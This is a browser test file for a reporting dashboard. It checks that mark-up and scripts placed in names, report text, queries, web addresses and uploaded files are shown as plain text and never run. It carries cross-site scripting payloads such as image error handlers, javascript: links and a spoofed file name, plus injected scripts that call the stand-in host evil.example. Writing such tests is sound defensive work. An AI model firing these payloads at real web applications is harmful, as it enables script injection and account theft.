"""Mark-up and scripts in what people enter, in what reports state and in addresses stay the text that they are.

The words of each source bear its number, so that it is known which of them stood on a page, and which ran.

One file past 300 lines on purpose: one board full of mark-up, looked at from every side.
"""

import re
from collections.abc import Iterator
from datetime import date, timedelta
from hashlib import sha256
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from pipelines.domain.records import Proof
from pipelines.domain.register import Subject
from pipelines.jobs.administration import Administration, EntryAt
from pipelines.jobs.build import build
from pipelines.jobs.corrections import Wanted
from pipelines.jobs.days import today
from pipelines.jobs.documents import Intake, ingest
from pipelines.jobs.hand import HandDesk, Typed
from pipelines.jobs.materials import MaterialCard, MaterialStore
from pipelines.jobs.people import Person
from pipelines.jobs.progress import Noted, ProgressDesk
from pipelines.jobs.query import QueryDesk
from pipelines.jobs.settings import Settings
from pipelines.jobs.supervision import Found, Order, SupervisionDesk
from tests.browser.serving import served, still
from tests.conftest import _copied_root
from tests.dashboards.test_pages import PAGES

pytestmark = pytest.mark.browser
expect.set_options(timeout=30_000)
OFFICE = "enforcement_office"
WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => {
  // the library that counts in 64 bits tries WebAssembly and goes on without
  if (blockedURI !== "wasm-eval") window.__violations.push(`${effectiveDirective} ${blockedURI} ${sample}`);
});
window.__runs = 0;
new MutationObserver((changes) => {
  if (changes.some((each) => each.target.dataset.testScriptState === "notRunning")) window.__runs += 1;
}).observe(document, { subtree: true, attributeFilter: ["data-test-script-state"] });
"""
RAN = """() => ({
  hit: window.__hit ?? null,
  violations: window.__violations,
  made: [...document.querySelectorAll(`img[src=x], [onerror], [onload], [href*="/hit"], [href^=hit], [href^=java]`)]
    .map((each) => each.outerHTML),
  framed: document.querySelectorAll("iframe, object, embed").length,
})"""
GO = """(to) => { history.pushState({}, "", to); dispatchEvent(new PopStateEvent("popstate", { state: {} })); }"""
"""As the board's own links do: the page stays loaded, with all that ran in it."""
SHOWN = """() => {
  const typed = [...document.querySelectorAll("input, textarea")].map((each) => each.value);
  return [document.body.textContent, ...typed].join(" ");
}"""


def words(number: int) -> str:
    """Words of a source that are a script, a handler and a link in Markdown for who doesn't take them for words."""
    return f"<img src=x onerror=window.__hit={number}>[a](/hit{number})"


SCRIPT = b"<!doctype html><script>window.__hit=61</script>"
FILE = "<img src=x onerror=window.__hit=22>[a](hit22).txt"
SOURCES = {
    "an organisation's name": 10,
    "a metric's name": 11,
    "a goal's name": 12,
    "an office's name": 13,
    "a key result's name": 14,
    "why a name was changed": 15,
    "a report's title": 20,
    "a report's sentence": 21,
    "a query's name": 30,
    "a query": 31,
    "what a query answers": 32,
    "a task's words": 50,
    "an answer to a task": 51,
    "a problem's name": 52,
    "why something was done": 53,
    "a material's title": 60,
    "a material's file": 61,
    "what a figure was typed from": 62,
}


@pytest.fixture(scope="module")
def marked_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A board on which everything that somebody can name is named so."""
    root = _copied_root(tmp_path_factory.mktemp("marked") / "data")
    settings, person = Settings(data=root), Person()
    desk, due = SupervisionDesk(settings, person), today() + timedelta(days=9)
    task = desk.assign(Order("longjin", "other", "", f"办{words(50)}", OFFICE, due))
    desk.answer(task, proof=Proof(), why=words(51), seen=1)
    since = date(2020, 1, 1)
    for file, entry_id, name in (
        ("organisations.yml", "longjin", 10),
        ("metrics/training.yml", "law_trainings", 11),
        ("goals.yml", "goal_1", 12),
        ("owners.yml", OFFICE, 13),
        ("key_results.yml", "g1_coordination", 14),
    ):
        said = {"zh": f"名{words(name)}", "en": f"Name {words(name)}"}
        Administration(settings, person).change(EntryAt(file, entry_id), {"name": said}, starts=since, why=words(15))
    report = root.parent / FILE
    report.write_text(
        f"龙津街道2022年法治政府建设年度报告{words(20)}\n一、工作情况\n学法考试完成率91%{words(21)}。"
        f"组织法治培训12场次{words(21)}。另有怪事19件{words(21)}。\n" + "全面推进依法行政，加强法治政府建设。" * 20,
        encoding="utf-8",
    )
    ingest(settings, [report], Intake(organisation_id="longjin", year=2022))
    QueryDesk(settings, person).save(f"问{words(30)}", f"select '{words(32)}' as \"{words(32)}\" -- {words(31)}")
    desk.find(Found("longjin", f"缺{words(52)}", "court", date(2024, 3, 1), OFFICE, due))
    milestone = Subject("milestone", "g1_coordination/2024-03-31")
    ProgressDesk(settings, person).record(Noted(milestone, "done", date(2024, 3, 20), OFFICE), why=words(53))
    card = MaterialCard("longjin", f"材{words(60)}", date(2024, 1, 1), date(2024, 12, 31), OFFICE)
    MaterialStore(settings, person).add(SCRIPT, "<svg onload=window.__hit=61>.html", card)
    figure = Wanted("penalty_cases_filed", "", "3", "exact", "件", date(2023, 1, 1), date(2023, 12, 31))
    HandDesk(settings, person).enter(Typed("longjin", figure, words(62)))
    build(settings, as_of=date(2025, 1, 31))
    return root


@pytest.fixture(scope="module")
def marked(marked_root: Path) -> Iterator[str]:
    with served(marked_root) as address:
        yield address


class Watched:
    """A page of a browser in which whatever runs, is asked for or is told as a fault is kept."""

    def __init__(self, context: BrowserContext, address: str, page: Page | None = None):
        self.address, self.faults = address, []
        context.add_init_script(WATCH)
        context.set_default_timeout(30_000)
        self.page = page or context.new_page()
        self.page.on("dialog", lambda dialog: (self.faults.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.faults.append(str(error)))

    def _console(self, message) -> None:
        if message.type == "error":
            self.faults.append(message.text)

    def opened(self, path: str, **asked: str) -> str:
        """All words of a page, once it is proved that nothing in it ran or was about to."""
        to = f"{self.address}/{path}?{urlencode(asked)}"
        if self.page.url.startswith(self.address):
            ran = self.page.evaluate("window.__runs")
            self.page.evaluate(GO, to)
        else:
            ran = 0
            self.page.goto(to)
        self.page.wait_for_function("(ran) => window.__runs > ran", arg=ran)
        self.page.locator(".masthead, .brand").first.wait_for()
        still(self.page)
        self.page.evaluate("() => document.querySelectorAll('details').forEach((each) => (each.open = true))")
        self.proved()
        return self.page.evaluate(SHOWN)

    def proved(self) -> None:
        ran = self.page.evaluate(RAN)
        assert ran == {"hit": None, "violations": [], "made": [], "framed": 0}, self.page.url
        assert self.faults == [], self.page.url


@pytest.fixture(scope="module")
def watched(chromium, marked: str) -> Iterator[Watched]:
    context = chromium.new_context(viewport={"width": 1440, "height": 900})
    yield Watched(context, marked)
    context.close()


ALSO = [
    ("metrics", {"metric": "law_trainings", "year": "2022"}),
    ("metrics", {"metric": "penalty_cases_filed"}),
    ("goals", {"key": "g1_coordination"}),
    ("query", {"q": f"select '{words(32)}' as \"{words(32)}\" -- {words(31)}", "draw": "bar"}),
    ("settings", {"section": "owners", "entry": f"owners.yml/{OFFICE}"}),
    ("settings", {"section": "metrics", "entry": "metrics/training.yml/law_trainings"}),
    ("review", {"year": "2022"}),
    ("log", {"find": words(53)}),
    ("materials", {"material": sha256(SCRIPT).hexdigest()}),
]


def test_whatever_people_and_reports_say_is_shown_as_its_words_and_runs_nowhere(watched: Watched) -> None:
    said = "\n".join(
        watched.opened("" if page == "overview" else page, **{"lang": "zh", "org": "longjin", "year": "2023", **asked})
        for page, asked in [*((page, {}) for page in PAGES), *ALSO]
    )
    assert {source for source, number in SOURCES.items() if f"__hit={number}>" not in said} == set()


def test_the_names_of_files_that_are_dropped_are_shown_as_they_are(watched: Watched, marked_root: Path) -> None:
    watched.opened("intake", lang="zh", org="longjin", year="2023")
    text = (marked_root.parent / FILE).read_bytes()
    dropped = [{"name": name, "mimeType": "text/plain", "buffer": text} for name in (FILE, "甲\u202etxt.exe.txt")]
    watched.page.get_by_test_id("stFileUploaderDropzoneInput").first.set_input_files(dropped)
    expect(watched.page.locator("h3.file").first).to_have_text(FILE)
    expect(watched.page.get_by_text("�txt.exe").first).to_be_visible()
    still(watched.page)
    watched.proved()


IN_ADDRESSES = {
    "": ("lang", "org", "year", "signin"),
    "overview": ("edition",),
    "metrics": ("metric", "find", "theme"),
    "goals": ("key", "status"),
    "themes": ("theme", "day", "place"),
    "query": ("q", "draw", "x", "y"),
    "quality": ("table", "find"),
    "peers": ("remind",),
    "changes": ("with",),
    "ledgers": ("ledger",),
    "review": ("item", "number", "p"),
    "materials": ("material",),
    "log": ("find", "kind", "who", "from", "until", "p"),
    "settings": ("section", "entry"),
}
"""Page → the parameters of its address that hold what somebody sent along in a link."""


def test_what_an_address_holds_is_shown_as_its_words_or_not_at_all(watched: Watched) -> None:
    said = ""
    for page, names in IN_ADDRESSES.items():
        asked = {"lang": "zh", "org": "longjin", "year": "2023"} if page else {}
        said += watched.opened("" if page == "overview" else page, **asked, **dict.fromkeys(names, words(70)))
    assert said.count("__hit=70>") >= len(IN_ADDRESSES)


def test_a_refusal_shows_what_it_is_about_as_its_words(watched: Watched) -> None:
    watched.opened("ledgers", lang="zh", org="longjin", year="2023")
    name = FILE.replace(".txt", ".csv")
    file = {"name": name, "mimeType": "text/csv", "buffer": b"\x00\x01"}
    watched.page.get_by_test_id("stFileUploaderDropzoneInput").first.set_input_files([file])
    expect(watched.page.get_by_role("alert").filter(has_text=name)).to_be_visible()
    still(watched.page)
    watched.proved()


def test_a_page_that_was_uploaded_is_saved_and_never_opened(watched: Watched) -> None:
    watched.opened("materials", lang="zh", org="longjin", material=sha256(SCRIPT).hexdigest())
    with watched.page.expect_download() as taken, watched.page.expect_response(re.compile("/media/")) as answered:
        watched.page.get_by_test_id("stDownloadButton").get_by_role("button").first.click()
    assert taken.value.path().read_bytes() == SCRIPT
    headers = answered.value.headers
    assert headers["content-disposition"].startswith("attachment") and headers["x-content-type-options"] == "nosniff"
    assert headers["content-security-policy"].startswith("default-src 'none'")
    watched.proved()


INJECTED = """() => {
  const script = Object.assign(document.createElement("script"), { textContent: "window.__hit = 80" });
  document.body.append(script);
  const image = document.createElement("img");
  image.setAttribute("onerror", "window.__hit = 81");
  image.src = "data:,";
  document.body.append(image);
  const link = Object.assign(document.createElement("a"), { href: "javascript:window.__hit = 82" });
  document.body.append(link);
  link.click();
  for (const source of ["https://evil.example/x.js", "data:text/javascript,window.__hit=83"])
    document.head.append(Object.assign(document.createElement("script"), { src: source }));
  document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
  const frame = Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.__hit = 84</script>" });
  document.body.append(frame);
  // later: what a debugger runs at once may call it
  setTimeout(() => window.eval("window.__hit = 85"));
  setTimeout(() => new Function("window.__hit = 86")());
  fetch("https://evil.example/").catch(() => {});
}"""
STOPPED = {"script-src-elem", "script-src-attr", "script-src", "connect-src", "base-uri"}


def test_a_script_that_somebody_gets_into_a_page_after_all_does_not_run(chromium, marked: str) -> None:
    context = chromium.new_context()
    watched = Watched(context, marked)
    watched.opened("", lang="zh")
    watched.page.evaluate(INJECTED)
    watched.page.wait_for_timeout(1_000)
    ran = watched.page.evaluate(RAN)
    assert ran["hit"] is None
    assert {each.partition(" ")[0] for each in ran["violations"]} >= STOPPED
    context.close()


def test_no_other_page_frames_the_board(chromium, marked: str, tmp_path: Path) -> None:
    around = tmp_path / "around.html"
    around.write_text(f'<iframe src="{marked}/" width=900 height=600></iframe>', encoding="utf-8")
    page = chromium.new_page()
    page.goto(around.as_uri())
    page.wait_for_timeout(1_500)
    assert [frame.url for frame in page.frames if frame.url.startswith(marked)] == []
    assert page.frame_locator("iframe").locator(".masthead").count() == 0
    page.close()
